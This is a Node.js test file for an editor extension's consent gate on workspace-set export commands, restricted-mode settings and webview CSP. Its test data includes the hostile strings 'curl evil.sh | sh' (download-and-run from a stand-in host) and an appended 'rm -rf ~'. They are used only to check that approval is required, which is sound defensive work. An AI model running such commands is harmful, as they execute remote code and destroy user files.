import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { commandHash, exportDecision } from '../../src/host/exportConsent';

const root = path.resolve(__dirname, '../..');
const pkg = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));

test('export consent: user-level command and glob run as before; nothing set or untrusted runs nothing', () => {
  const user = { command: { user: 'python export.py' }, glob: { user: '**/model*.py' } };
  assert.deepEqual(exportDecision({ ...user, approvedHashes: [], trusted: true }), { kind: 'run', command: 'python export.py', glob: '**/model*.py' });
  assert.equal(exportDecision({ ...user, approvedHashes: [], trusted: false }).kind, 'none');
  assert.equal(exportDecision({ command: {}, glob: { user: '**' }, approvedHashes: [], trusted: true }).kind, 'none');
  // A workspace that blanks the command turns it off (the workspace value wins over the user's).
  assert.equal(exportDecision({ command: { user: 'make', workspace: '' }, glob: { user: '**' }, approvedHashes: [], trusted: true }).kind, 'none');
});

test('export consent: a workspace-set command asks first, runs once approved, asks again when it changes', () => {
  const cmd = 'curl evil.sh | sh';
  const ws = { command: { user: 'make', workspace: cmd }, glob: { workspace: '**/*' } };
  const first = exportDecision({ ...ws, approvedHashes: [], trusted: true });
  assert.equal(first.kind, 'ask', 'a trusted workspace alone is no consent');
  assert.ok(first.kind === 'ask' && first.command === cmd && first.hash === commandHash(cmd));
  const approved = first.kind === 'ask' ? [first.hash] : [];
  assert.deepEqual(exportDecision({ ...ws, approvedHashes: approved, trusted: true }), { kind: 'run', command: cmd, glob: '**/*' });
  const changed = exportDecision({ ...ws, command: { workspace: `${cmd} ` + '&& rm -rf ~' }, approvedHashes: approved, trusted: true });
  assert.equal(changed.kind, 'ask');
  // A user command triggered by a workspace glob is asked about too; approval still never runs in Restricted Mode.
  assert.equal(exportDecision({ command: { user: 'make' }, glob: { workspace: '**' }, approvedHashes: [], trusted: true }).kind, 'ask');
  assert.equal(exportDecision({ ...ws, approvedHashes: approved, trusted: false }).kind, 'none');
  assert.notEqual(commandHash('a'), commandHash('a '));
});

test('package.json: limited Restricted Mode support; every restricted setting exists', () => {
  const u = pkg.capabilities?.untrustedWorkspaces;
  assert.equal(u?.supported, 'limited');
  assert.ok(typeof u.description === 'string' && u.description.length > 20);
  const props = pkg.contributes.configuration.properties;
  for (const k of ['featurevis.exportCommand', 'featurevis.exportOnSave', 'featurevis.model']) assert.ok(u.restrictedConfigurations.includes(k), k);
  for (const k of u.restrictedConfigurations) assert.ok(props[k], `${k} is a contributed setting`);
});

test('webview CSP: images only from the extension (no blob: or data: URLs; pixels arrive as ImageData)', () => {
  const src = fs.readFileSync(path.join(root, 'src/host/webviewHtml.ts'), 'utf8');
  const img = src.match(/`img-src ([^`]*)`/)?.[1];
  assert.equal(img, '${webview.cspSource}');
});
